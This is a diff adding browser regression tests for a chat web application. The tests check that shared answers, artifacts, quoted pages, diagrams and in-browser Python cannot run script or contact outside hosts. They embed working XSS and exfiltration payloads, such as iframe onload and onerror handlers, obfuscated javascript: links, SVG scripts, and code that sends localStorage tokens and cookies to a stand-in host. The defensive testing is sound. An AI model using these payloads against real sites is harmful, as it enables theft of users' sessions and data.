@@ -1,0 +1,215 @@
+"""What models, documents and other people write runs in the page of somebody else: it reaches nothing and nobody."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import ConsoleMessage, Page, Request, expect
+
+from tests.browser.pages import home, open_panel, stored_chat, wait_for_round
+from tests.browser.running import Server
+from tests.standins.elsewhere import Elsewhere
+
+pytestmark = [pytest.mark.browser, pytest.mark.release, pytest.mark.slow]
+
+RAN = "window.parent.stolen = window.stolen = 'ran'; document.title = 'stolen'"
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    """A site outside that takes whatever is sent to it, from any page."""
+    with Elsewhere() as site:
+        yield site
+
+
+def show(page: Page, server: Server, answer: str, **more: Any) -> None:
+    """Open a chat that somebody shared, whose answer is this text, with more members of its message."""
+    home(page, server)
+    page.goto(f"{server.url}/c/{stored_chat(page, server, answer_text=answer, **more)}")
+    wait_for_round(page)
+    expect(page.locator(".chat-assistant").last).to_be_visible()
+
+
+def settle(page: Page) -> None:
+    """Long enough for what was shown to have run, and sent, whatever it could."""
+    page.wait_for_timeout(1_500)
+
+
+def untouched(page: Page, elsewhere: Elsewhere) -> None:
+    settle(page)
+    assert elsewhere.requests == []
+    assert page.evaluate("window.stolen") is None and page.title() != "stolen"
+
+
+@pytest.mark.attack
+def test_a_remote_picture_loads_nothing(page: Page, server: Server, elsewhere: Elsewhere) -> None:
+    show(page, server, f"Look: ![chart]({elsewhere.url}/p.png?q=my-secret) and <img src='{elsewhere.url}/q.png'>")
+    untouched(page, elsewhere)
+
+
+@pytest.mark.attack
+def test_cve_2025_46719_a_files_frame_brings_no_script(page: Page, server: Server, elsewhere: Elsewhere) -> None:
+    frame = f'<iframe src="/api/v1/files/" onload="{RAN}; fetch(\'{elsewhere.url}/?\' + localStorage.token)"></iframe>'
+    inner = f'<img src=x onerror="{RAN}">'
+    show(page, server, f"{frame}\n\nand inside a line {frame} {inner}")
+    untouched(page, elsewhere)
+
+
+@pytest.mark.attack
+def test_cve_2025_46719_a_fresh_frame_is_no_way_past_the_guard(
+    page: Page, server: Server, elsewhere: Elsewhere
+) -> None:
+    """A script that got into the page all the same takes `fetch` from a new frame, where nothing guards it."""
+    home(page, server)
+    fresh = """(url) => {
+        const frame = document.body.appendChild(document.createElement('iframe'));
+        frame.contentWindow.fetch(url, {mode: 'no-cors', method: 'POST', body: 'words'}).catch(() => {});
+        new frame.contentWindow.Image().src = url + '/picture';
+        frame.contentWindow.navigator.sendBeacon(url + '/beacon', 'words');
+    }"""
+    page.evaluate(fresh, elsewhere.url)
+    untouched(page, elsewhere)
+
+
+@pytest.mark.attack
+def test_cve_2026_109288_a_link_runs_nothing(page: Page, server: Server, elsewhere: Elsewhere) -> None:
+    show(
+        page,
+        server,
+        f"[press](javascript:{RAN.replace(' ', '%20')}) and [again](JaVa&#115;cript:{RAN}) [fine](https://a.example)",
+    )
+    links = page.locator(".chat-assistant a")
+    addresses = [link.get_attribute("href") for link in links.all()]
+    assert "https://a.example" in addresses
+    assert not [address for address in addresses if address and "script" in address.lower()]
+    untouched(page, elsewhere)
+
+
+ARTIFACT = """```html
+<p id="said">waiting</p>
+```
+
+```js
+const said = [];
+try { said.push(parent.localStorage.token); } catch { said.push('no token'); }
+try { said.push(document.cookie || 'no cookie'); } catch { said.push('no cookie'); }
+fetch('ELSEWHERE/fetch', {mode: 'no-cors'}).catch(() => {});
+fetch('/api/config').then(() => said.push('the server'), () => said.push('no server')).then(() => {
+  document.getElementById('said').textContent = said.join(', ');
+});
+new Image().src = 'ELSEWHERE/picture';
+setTimeout(() => { location.href = 'ELSEWHERE/gone?words'; }, 1000);
+```
+"""
+
+
+@pytest.mark.attack
+def test_cve_2026_45303_an_artifact_runs_without_the_pages_origin(
+    page: Page, server: Server, elsewhere: Elsewhere
+) -> None:
+    show(page, server, ARTIFACT.replace("ELSEWHERE", elsewhere.url))
+    page.locator("#chat-context-menu-button").click()
+    page.get_by_role("menuitem", name="Artifacts").click()
+    frame = page.frame_locator("iframe[src='/tee/artifact.html']")
+    expect(frame.locator("#said")).to_have_text("no token, no cookie, no server", timeout=15_000)
+    untouched(page, elsewhere)
+
+
+@pytest.mark.attack
+def test_cve_2026_26192_a_quoted_page_runs_without_the_pages_origin(
+    page: Page, server: Server, elsewhere: Elsewhere
+) -> None:
+    quoted = f"""<p id="said">waiting</p><script>
+        let said;
+        try {{ said = parent.localStorage.token; }} catch {{ said = 'no token'; }}
+        fetch('{elsewhere.url}/' + said, {{mode: 'no-cors'}}).catch(() => {{}});
+        document.getElementById('said').textContent = said;
+    </script>"""
+    source = {"source": {"name": "a page"}, "document": [quoted], "metadata": [{"source": "a page", "html": True}]}
+    show(page, server, "As the page says [1].", sources=[source])
+    page.locator("[id^='source-']").first.click()
+    expect(page.frame_locator("iframe[src='/tee/artifact.html']").locator("#said")).to_have_text("no token")
+    untouched(page, elsewhere)
+
+
+@pytest.mark.attack
+def test_cve_2026_54011_a_diagram_brings_no_script(page: Page, server: Server, elsewhere: Elsewhere) -> None:
+    diagram = f"""```mermaid
+graph TD
+  A["<img src=x onerror='window.stolen=1'>"] --> B[end]
+  click A "javascript:window.stolen=1"
+```
+
+```svg
+<svg xmlns="http://www.w3.org/2000/svg"><script>{RAN}</script><image href="{elsewhere.url}/i.png" />
+<a href="javascript:{RAN}"><circle r="9" onload="{RAN}" onclick="{RAN}" /></a></svg>
+```
+"""
+    show(page, server, diagram)
+    expect(page.locator("svg[id^='mermaid']").first).to_be_visible(timeout=15_000)
+    drawn = page.locator("svg:has(circle)").first
+    if drawn.count():
+        assert "script" not in drawn.evaluate("(node) => node.outerHTML").lower()
+    untouched(page, elsewhere)
+
+
+PYTHON = """```python
+import js
+from js import fetch
+found = [hasattr(js, "localStorage"), hasattr(js, "document")]
+for url in ("SERVER/api/config", "ELSEWHERE/?words"):
+    try:
+        await fetch(url)
+        found.append(url)
+    except Exception:
+        found.append("refused")
+print(found, 6 * 7)
+```
+"""
+
+
+@pytest.mark.attack
+def test_cve_2026_59214_python_runs_without_the_pages_origin(page: Page, server: Server, elsewhere: Elsewhere) -> None:
+    show(page, server, PYTHON.replace("SERVER", server.url).replace("ELSEWHERE", elsewhere.url))
+    page.get_by_role("button", name="Run", exact=True).first.click()
+    output = page.locator("#stdout-output, .chat-assistant").filter(has_text="42").last
+    expect(output).to_contain_text("[False, False, 'refused', 'refused'] 42", timeout=60_000)
+    untouched(page, elsewhere)
+
+
+def test_a_tour_has_no_violation_and_asks_no_other_host(page: Page, server: Server) -> None:
+    said: list[str] = []
+    asked: list[str] = []
+
+    def listen(message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text or "CORS" in message.text:
+            said.append(message.text)
+
+    def look(request: Request) -> None:
+        if not request.url.startswith((server.url, "data:", "blob:")):
+            asked.append(request.url)
+
+    page.on("console", listen)
+    page.context.on("request", look)
+    home(page, server)
+    open_panel(page)
+    page.keyboard.press("Escape")
+    for path in (
+        "/workspace/models",
+        "/workspace/knowledge",
+        "/workspace/tools",
+        "/admin/users",
+        "/admin/settings",
+        "/playground",
+    ):
+        page.goto(server.url + path)
+        page.wait_for_load_state("networkidle")
+    home(page, server)
+    page.get_by_role("button", name="User menu").or_(page.locator("button:has(img[alt='User profile'])")).last.click()
+    page.get_by_text("Settings", exact=True).first.click()
+    for name in ("General", "Interface", "Personalization", "Audio", "Chats", "Account", "About"):
+        page.get_by_role("button", name=name, exact=True).last.click()
+        settle(page) if name in ("Account", "About") else None
+    assert said == [] and asked == []
